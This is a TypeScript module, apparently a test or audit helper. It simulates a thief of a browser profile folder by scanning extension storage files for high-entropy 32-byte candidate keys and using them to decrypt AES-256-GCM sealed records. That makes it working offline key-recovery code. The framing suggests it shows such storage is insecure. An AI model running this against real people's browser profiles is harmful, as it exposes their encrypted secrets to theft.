import { createDecipheriv } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { unpackedIn } from './unpack-snappy';

/** A sealed record as it lies on disk, and what its place is called. */
export interface SealedRecord {
  place: string;
  /** Initialisation vector, then what AES-GCM made of it. */
  sealed: Buffer;
}

/**
 * Does what a thief of a profile folder would: takes any 32 bytes that lie together anywhere in what the browser keeps
 * for the extension for a key, whatever form they are in. Browsers keep keys that they give out to no script like that.
 *
 * @returns what all these records say, under each key that opens the first of them; and how many keys were tried
 */
export function openWithKeysOnDisk(
  profile: string,
  records: SealedRecord[],
): { tried: number; opened: Buffer[] } {
  const [first] = records.toSorted((a, b) => a.sealed.length - b.sealed.length);
  if (!first) throw new Error('There is no record to open.');
  let tried = 0;
  const opened: Buffer[] = [];
  for (const key of keysIn(filesOfExtensions(profile))) {
    tried += 1;
    if (!open(first, key)) continue;
    opened.push(...records.map((record) => open(record, key) ?? Buffer.alloc(0)));
  }
  return { tried, opened };
}

const KEY_BYTES = 32;

/** As they lie there, and packed: the first bytes of a key may be those of what stands before it, and then are left out. */
function* keysIn(files: Buffer[]): Generator<Buffer> {
  for (const file of files) {
    yield* keysInBytes(file);
    for (const unpacked of unpackedIn(file)) yield* keysInBytes(unpacked);
  }
}

function* keysInBytes(bytes: Buffer): Generator<Buffer> {
  for (let at = 0; at + KEY_BYTES <= bytes.length; at++) {
    const key = bytes.subarray(at, at + KEY_BYTES);
    if (looksRandom(key)) yield key;
  }
}

/** Of 32 random bytes fewer than 20 are different once in 10^12 times: what has fewer is text, zeros or a table. */
function looksRandom(key: Buffer): boolean {
  return new Set(key).size >= 20;
}

function open({ place, sealed }: SealedRecord, key: Buffer): Buffer | null {
  const decipher = createDecipheriv('aes-256-gcm', key, sealed.subarray(0, 12));
  decipher.setAAD(Buffer.from(place)).setAuthTag(sealed.subarray(-16));
  const plain = decipher.update(sealed.subarray(12, -16));
  try {
    decipher.final();
    return plain;
  } catch {
    return null;
  }
}

/** IndexedDB and the storage areas of Chromium and Firefox. Pictures, which are large, are left out. */
function filesOfExtensions(profile: string): Buffer[] {
  return readdirSync(profile, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .filter(
      (path) =>
        /extension/i.test(path.slice(profile.length)) && !/\.(?:js|html|css|png|svg|dll|so)$/.test(path),
    )
    .map((path) => readFileSync(path));
}
